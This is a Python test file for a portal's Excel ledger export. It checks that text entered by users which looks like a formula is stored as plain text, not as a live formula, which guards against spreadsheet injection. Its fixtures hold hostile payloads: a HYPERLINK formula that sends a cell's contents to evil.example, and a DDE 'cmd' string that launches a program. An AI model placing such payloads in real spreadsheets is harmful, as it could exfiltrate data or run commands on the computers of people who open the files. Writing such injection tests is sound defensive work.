"""The ledger export holds what units and the bureau typed as text, never as a live formula (CSV/XLSX injection)."""

from __future__ import annotations

from datetime import date
from io import BytesIO

from openpyxl import load_workbook

from plugins.rectification import operations as rectification
from portal.extensions import db
from tests.plugins.rectification.helpers import as_user
from tests.portal.workflow.helpers import project_with_targets

EVIDENCE = '=HYPERLINK("http://evil.example/?d="&C4,"详情")'
DESCRIPTION = "+1+cmd|' /C calc'!A0"
PERSON = "@SUM(A1:A9)"


def test_ledger_export_keeps_formula_like_text_as_text(app, world, clock):
    with app.test_request_context():
        project = project_with_targets(code="ZS-2022-030")
        item = rectification.create_item(unit=project.unit, project=project, fiscal_year=2022, source_kind="manual",
                                         description=DESCRIPTION, severity="general", deadline=date(2025, 7, 31),
                                         responsible_person=PERSON)
        db.session.commit()
        item_id = item.id
    unit = as_user(app, world, "unit")
    assert unit.post(f"/work/rectification/items/{item_id}/evidence", data={"text": EVIDENCE}).status_code == 302

    response = as_user(app, world, "reviewer").get("/work/rectification/export.xlsx?year=2022")
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.data)).active
    headers = [c.value for c in sheet[3]]
    [row] = [dict(zip(headers, r, strict=True)) for r in sheet.iter_rows(min_row=4)]
    assert row["整改情况说明"].value == "'" + EVIDENCE and row["整改情况说明"].data_type == "s"
    assert row["问题描述"].value == "'" + DESCRIPTION and row["责任人"].value == "'" + PERSON
    assert row["序号"].value == 1 and row["年度"].value == 2022 and row["整改期限"].is_date
    assert [c.coordinate for r in sheet.iter_rows() for c in r if c.data_type == "f"] == []
